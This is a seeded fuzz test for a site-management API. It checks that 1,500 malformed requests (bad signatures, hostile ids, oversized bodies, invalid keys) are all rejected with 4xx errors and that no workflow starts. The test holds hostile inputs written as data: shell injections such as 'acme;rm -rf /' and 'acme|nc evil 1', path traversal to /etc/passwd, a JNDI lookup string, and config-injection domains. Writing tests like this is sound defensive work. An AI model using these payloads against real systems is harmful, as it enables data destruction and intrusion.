import { randomBytes } from 'node:crypto';
import { OPERATIONS } from '../../client/operations';
import { sign } from '../../api/signature';
import { testSite } from '../support/site';
import { openBed, type Bed } from '../support/bed';
import { OLD_SECRET, rawRequest, SECRET, startApi, type Answer, type Api } from './harness';

/**
 * 1500 malformed or hostile requests (random JSON shapes, mutated specs, hostile ids, huge
 * bodies, bad signatures on otherwise valid requests, wrong content types, bad keys): every one
 * is answered 4xx with a JSON error, not one workflow starts (visibility: nothing on the API's
 * task queue, nothing at all in the namespace since the run began), and the API stays healthy.
 * The run is seeded; a failure prints the seed and the request.
 */

const COUNT = 1500;
const SEED = Number(process.env.QM_FUZZ_SEED ?? Date.now() % 2 ** 31);

let bed: Bed;
let api: Api;
beforeAll(async () => {
  bed = await openBed({ fleet: false });
  api = await startApi(bed.env);
});
afterAll(async () => {
  await api?.close();
  await bed?.close();
});

/** mulberry32: a small seeded PRNG, so a failing run can be replayed with QM_FUZZ_SEED. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  return { next, int, pick };
}

const HOSTILE = [
  '../../etc/passwd',
  '..',
  '%2e%2e%2f',
  'acme;rm -rf /',
  'acme && touch /tmp/pwned',
  '$(id)',
  '`id`',
  'acme|nc evil 1',
  "acme'--",
  'acme"',
  'acme\ninjected',
  'acme\u0000',
  'аcme', // Cyrillic а
  'ａｃｍｅ', // fullwidth
  'acme\u200b', // zero width space
  'ACME',
  '-acme',
  'acme-',
  'a',
  'x'.repeat(300),
  '{{7*7}}',
  '${jndi:ldap://x}',
  '<script>',
  ' acme',
  'acme ',
  '*',
  '',
  'site:acme',
];

/** Idempotency keys that must be refused (a key is 1-64 of [A-Za-z0-9_-], starting alphanumeric). */
const BAD_KEYS = [
  '',
  '-x',
  '_x',
  'a b',
  'a:b',
  'a/b',
  'a.b',
  '../x',
  'k'.repeat(65),
  'é',
  '$(id)',
  'a;b',
  "a'b",
  '*',
];

const ROUTES: [string, (id: string) => string][] = [
  ['POST', () => '/v1/sites'],
  ['POST', (id) => `/v1/sites/${id}/suspend`],
  ['POST', (id) => `/v1/sites/${id}/resume`],
  ['DELETE', (id) => `/v1/sites/${id}`],
  ['PATCH', (id) => `/v1/sites/${id}/plan`],
  ['POST', (id) => `/v1/sites/${id}/backups`],
  ['POST', (id) => `/v1/sites/${id}/restore`],
  ['POST', (id) => `/v1/sites/${id}/deploy`],
  ['POST', (id) => `/v1/sites/${id}/rollback`],
  ['POST', (id) => `/v1/sites/${id}/repair`],
  ['GET', (id) => `/v1/sites/${id}`],
  ['GET', (id) => `/v1/operations/provision:${id}:k`],
];

interface Fuzzed {
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body: Buffer;
}

function generator(seed: number, marker: string) {
  const r = prng(seed);
  let n = 0;
  const siteId = () => `${marker}-${(n++).toString(36)}`; // valid, unique, findable
  // The same body to the same path in the same second is the same signature (a replay, 401): a
  // query string makes each request its own, so the checks behind the signature are reached.
  const nonce = () => `?fz=${n++}`;
  const enc = (s: string) =>
    r.next() < 0.5 ? encodeURIComponent(s) : s.replace(/[^\x21-\x7e]/g, encodeURIComponent);

  const randomValue = (depth = 0): unknown => {
    const choice = r.int(depth > 3 ? 6 : 9);
    switch (choice) {
      case 0:
        return null;
      case 1:
        return r.next() < 0.5;
      case 2:
        return r.pick([0, -1, 1e308, -1e308, 2 ** 53 + 1, 0.5, 99999]);
      case 3:
        return r.pick(HOSTILE);
      case 4:
        return randomBytes(r.int(20)).toString('latin1');
      case 5:
        return '';
      case 6:
        return Array.from({ length: r.int(5) }, () => randomValue(depth + 1));
      default: {
        const o: Record<string, unknown> = {};
        for (let i = r.int(5); i > 0; i--)
          o[
            r.pick([
              'site',
              'siteId',
              'plan',
              'reason',
              '__proto__',
              'constructor',
              'domains',
              'x',
              r.pick(HOSTILE),
            ])
          ] = randomValue(depth + 1);
        return o;
      }
    }
  };

  /** A valid spec with one field made hostile or wrong: always invalid. */
  const mutatedSpec = (): unknown => {
    const spec: Record<string, unknown> = { ...testSite({ siteId: siteId() }) };
    const git = spec.git as Record<string, unknown>;
    const mutations: (() => void)[] = [
      () => (spec.siteId = r.pick(HOSTILE)),
      () => (spec.customerId = r.pick(HOSTILE)),
      () => (spec.profile = r.pick(['../profiles/x', 'x;id', '', 'Prod'])),
      () => (spec.plan = r.pick(['gold', 'STARTER', '', 1, null])),
      () => (spec.domains = [r.pick(HOSTILE)]),
      () => (spec.domains = ['ok.example', `évil.example`]),
      () => (spec.domains = ['a.example', 'a.example;}server{listen 80;}']),
      () => (spec.domains = []),
      () => (spec.domains = Array.from({ length: 21 }, (_, i) => `d${i}.example`)),
      () => (git.repo = r.pick(['../x.git', '/etc/x.git', 'https://evil/x.git', 'a/.hidden.git', 'x'])),
      () => (git.branch = r.pick(['../main', 'main;id', '-x', 'a..b', 'a.lock'])),
      () => (spec.appServers = r.pick([0, 9, -1, 1.5, '2', null])),
      () => (spec.resources = { memoryMb: r.pick([1, 1e9, 'lots']) }),
      () => (spec[r.pick(['extra', 'triggeredBy', 'skipFinalBackup', 'colour'])] = randomValue()),
      () => (git.extra = 1),
      () => delete spec[r.pick(['siteId', 'customerId', 'plan', 'profile', 'domains', 'git'])],
    ];
    r.pick(mutations)();
    return r.next() < 0.1 ? { site: spec, triggeredBy: 'evil' } : { site: spec };
  };

  const signed = (method: string, path: string, body: Buffer, extra: Record<string, string> = {}) => ({
    ...sign(r.next() < 0.5 ? SECRET : OLD_SECRET, { method, path, body }),
    'content-type': 'application/json',
    'idempotency-key': `fz-${n++}`,
    ...extra,
  });

  return (): Fuzzed => {
    const kind = r.pick([
      'random-json',
      'mutated-spec',
      'mutated-spec',
      'hostile-path-id',
      'bad-signature-on-valid-request',
      'bad-signature-on-valid-request',
      'huge-body',
      'content-type',
      'bad-idempotency-key',
      'not-json',
      'unknown-route',
      'unknown-site',
    ] as const);
    const [method, route] = r.pick(ROUTES);
    switch (kind) {
      case 'random-json': {
        const path = `${route(r.next() < 0.8 ? siteId() : enc(r.pick(HOSTILE)))}${nonce()}`;
        // (a GET carries no body: one would be ignored, and the signature would not match it)
        const body =
          method === 'GET' ? Buffer.alloc(0) : Buffer.from(JSON.stringify(randomValue()) ?? 'null');
        return {
          kind,
          method,
          path,
          headers: signed(method, path, body, { 'idempotency-key': enc(r.pick(HOSTILE)) || 'x!' }),
          body,
        };
      }
      case 'mutated-spec': {
        const body = Buffer.from(JSON.stringify(mutatedSpec()));
        return { kind, method: 'POST', path: '/v1/sites', headers: signed('POST', '/v1/sites', body), body };
      }
      case 'hostile-path-id': {
        const [m, rt] = r.pick(ROUTES.slice(1));
        const path = `${rt(enc(r.pick(HOSTILE)) || '%20')}${nonce()}`;
        const body = Buffer.from(m === 'GET' ? '' : m === 'PATCH' ? '{"plan":"business"}' : '{}');
        return { kind, method: m, path, headers: signed(m, path, body), body };
      }
      case 'bad-signature-on-valid-request': {
        // a request that would start a provision if it were signed right
        const body = Buffer.from(JSON.stringify({ site: testSite({ siteId: siteId() }) }));
        const path = '/v1/sites';
        const good = signed('POST', path, body);
        const ts = Number(good['X-QM-Timestamp']);
        const variants: Record<string, string>[] = [
          { 'X-QM-Signature': `v1=${randomBytes(32).toString('hex')}` },
          sign('z'.repeat(64), { method: 'POST', path, body }),
          sign(SECRET, { method: 'POST', path, body }, ts - 400), // (requests are sent a few seconds after
          sign(SECRET, { method: 'POST', path, body }, ts + 400), // they are made: well outside the window)
          sign(SECRET, { method: 'POST', path: '/v1/sites/', body }),
          sign(SECRET, { method: 'PUT', path, body }),
          sign(SECRET, { method: 'POST', path, body: Buffer.concat([body, Buffer.from(' ')]) }),
          { 'X-QM-Signature': '' },
          { 'X-QM-Timestamp': '' },
          { 'X-QM-Signature': good['X-QM-Signature'].toUpperCase().replace('V1=', 'v2=') },
          { 'X-QM-Signature': good['X-QM-Signature'].slice(0, -2) },
          { 'X-QM-Timestamp': `${ts}.5` },
          { 'X-QM-Timestamp': '-1' },
        ];
        const headers = { ...good, ...r.pick(variants) };
        for (const k of Object.keys(headers))
          if (headers[k as keyof typeof headers] === '') delete headers[k as keyof typeof headers];
        return { kind, method: 'POST', path, headers, body };
      }
      case 'huge-body': {
        const size = 64 * 1024 + 1 + r.int(400 * 1024);
        const body = Buffer.from(
          JSON.stringify({ site: { ...testSite({ siteId: siteId() }), pad: 'x'.repeat(size) } }),
        );
        return { kind, method: 'POST', path: '/v1/sites', headers: signed('POST', '/v1/sites', body), body };
      }
      case 'content-type': {
        const body = Buffer.from(JSON.stringify({ site: testSite({ siteId: siteId() }) }));
        const ct = r.pick([
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/jsonp',
          'application/xml',
          'json',
        ]);
        return {
          kind,
          method: 'POST',
          path: '/v1/sites',
          headers: signed('POST', '/v1/sites', body, { 'content-type': ct }),
          body,
        };
      }
      case 'bad-idempotency-key': {
        const body = Buffer.from(JSON.stringify({ site: testSite({ siteId: siteId() }) }));
        const key = r.pick(BAD_KEYS);
        const headers: Record<string, string> = signed('POST', '/v1/sites', body, { 'idempotency-key': key });
        if (key === '') delete headers['idempotency-key'];
        return { kind, method: 'POST', path: '/v1/sites', headers, body };
      }
      case 'not-json': {
        const body = r.pick([
          Buffer.from('{"site":'),
          Buffer.from('{"site": {"siteId": "a",}}'),
          randomBytes(1 + r.int(200)),
          Buffer.from([0xff, 0xfe, 0x7b, 0x7d]),
          Buffer.from('['.repeat(5000)),
          Buffer.from('{"a":'.repeat(3000)),
        ]);
        const path = `/v1/sites${nonce()}`;
        return { kind, method: 'POST', path, headers: signed('POST', path, body), body };
      }
      case 'unknown-route': {
        const path = r.pick([
          '/v1/sites/x/backup',
          '/v1/sites/x/deploy',
          '/v2/sites',
          '/admin',
          '/v1/../healthz/x',
          '/v1/sites/x/restore',
          '/.env',
        ]);
        const m = r.pick(['GET', 'POST', 'PUT', 'DELETE', 'OPTIONS']);
        const body = Buffer.from('{}');
        return { kind, method: m, path, headers: signed(m, path, body), body };
      }
      case 'unknown-site': {
        // well-formed, signed right, on a site that does not exist: 404, nothing started
        const [m, rt] = r.pick(ROUTES.slice(1, 4));
        const path = rt(siteId());
        const body = Buffer.from('{}');
        return { kind, method: m, path, headers: signed(m, path, body), body };
      }
    }
  };
}

test(`${COUNT} hostile requests: every one a 4xx, no workflow started, the API still healthy`, async () => {
  // the same clock as the server's (one machine): no margin, so an earlier test file's last start is not counted
  const since = new Date().toISOString();
  const marker = `fz${randomBytes(3).toString('hex')}`;
  const next = generator(SEED, marker);
  const requests = Array.from({ length: COUNT }, next);
  const byKind = new Map<string, number>();
  const failures: string[] = [];

  let i = 0;
  const send = async () => {
    for (;;) {
      const req = requests[i++];
      if (!req) return;
      let answer: Answer;
      try {
        answer = await rawRequest(api.url, req.method, req.path, req.headers, req.body);
      } catch (err) {
        failures.push(`${req.kind} ${req.method} ${req.path}: ${(err as Error).message}`);
        continue;
      }
      byKind.set(`${req.kind} ${answer.status}`, (byKind.get(`${req.kind} ${answer.status}`) ?? 0) + 1);
      const ok = answer.status >= 400 && answer.status < 500 && typeof answer.json.error === 'string';
      if (!ok)
        failures.push(
          `${req.kind} ${req.method} ${req.path} → ${answer.status} ${answer.text.slice(0, 200)} (body ${req.body.subarray(0, 120).toString()})`,
        );
    }
  };
  await Promise.all(Array.from({ length: 6 }, send));

  if (failures.length)
    console.log(`fuzz seed ${SEED} (QM_FUZZ_SEED=${SEED} to replay):\n${failures.slice(0, 20).join('\n')}`);
  if (process.env.QM_FUZZ_VERBOSE) console.log([...byKind].sort().join('\n'));
  expect(failures).toEqual([]);
  // every kind was exercised
  const kinds = new Set([...byKind.keys()].map((k) => k.split(' ')[0]));
  expect(kinds.size).toBe(10);

  // Nothing started: not on the API's task queue, not in the namespace at all since the run began.
  const onQueue = await api.client.workflow.count(`TaskQueue = '${api.taskQueue}'`);
  // (any type the API can start, on any queue: other test files may leave their own background work)
  const anywhere = await api.client.workflow.count(
    `StartTime >= '${since}' AND WorkflowType IN (${[
      ...Object.values(OPERATIONS).map((o) => o.workflowType),
      'site',
    ]
      .map((t) => `'${t}'`)
      .join(', ')})`,
  );
  expect({ onQueue: onQueue.count, anywhere: anywhere.count }).toEqual({ onQueue: 0, anywhere: 0 });

  // Still healthy, and still serving a good request.
  const health = await rawRequest(api.url, 'GET', '/healthz', {}, Buffer.alloc(0));
  expect(health.status).toBe(200);
  const body = Buffer.from(JSON.stringify({ site: testSite({ siteId: `${marker}-final` }) }));
  const good = await rawRequest(
    api.url,
    'POST',
    '/v1/sites',
    {
      ...sign(SECRET, { method: 'POST', path: '/v1/sites', body }),
      'content-type': 'application/json',
      'idempotency-key': 'final',
    },
    body,
  );
  expect(good.status).toBe(202);
  // the positive control: a started workflow does show in the same visibility query
  const after = await api.client.workflow.count(`TaskQueue = '${api.taskQueue}'`);
  expect(after.count).toBe(1);
}, 120_000);
